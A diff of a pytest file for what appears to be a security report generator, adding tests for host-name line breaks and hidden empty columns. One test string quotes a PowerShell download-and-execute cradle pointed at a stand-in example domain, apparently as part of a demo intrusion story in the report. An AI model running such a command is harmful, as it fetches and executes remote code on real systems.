@@ -59,7 +59,7 @@ def hostile_page(evidence: Callable[..., Any], process_rows: Callable[..., pl.Da
 
 
 def test_the_demo_story_is_in_the_report(demo_page: str) -> None:
-    text = html.unescape(re.sub(r"<[^>]+>", " ", demo_page))
+    text = html.unescape(re.sub(r"<[^>]+>", " ", demo_page.replace("<wbr>", "")))
     assert TITLE in text
     for told in (
         "IEX (New-Object Net.WebClient).DownloadString('http://cdn.updates-portal.example.net",
@@ -73,6 +73,17 @@ def test_the_demo_story_is_in_the_report(demo_page: str) -> None:
         "Read = kept + skipped",
     ):
         assert told in text
+
+
+def test_names_of_hosts_and_files_break_between_their_parts_only(demo_page: str) -> None:
+    assert ">lark-ws02.<wbr>larkspur.<wbr>example</td>" in demo_page
+    assert ">lark-ws02.<wbr>nxlog.<wbr>ndjson, " in demo_page
+    assert '<span class="item">lark-ws01.<wbr>larkspur.<wbr>example</span>, ' in demo_page
+
+
+def test_an_empty_column_and_a_plural_of_one_are_not_shown(demo_page: str) -> None:
+    assert "Why skipped" not in demo_page
+    assert "1 peak or dip;" in demo_page
 
 
 def test_indicators_are_defanged(demo_page: str) -> None:
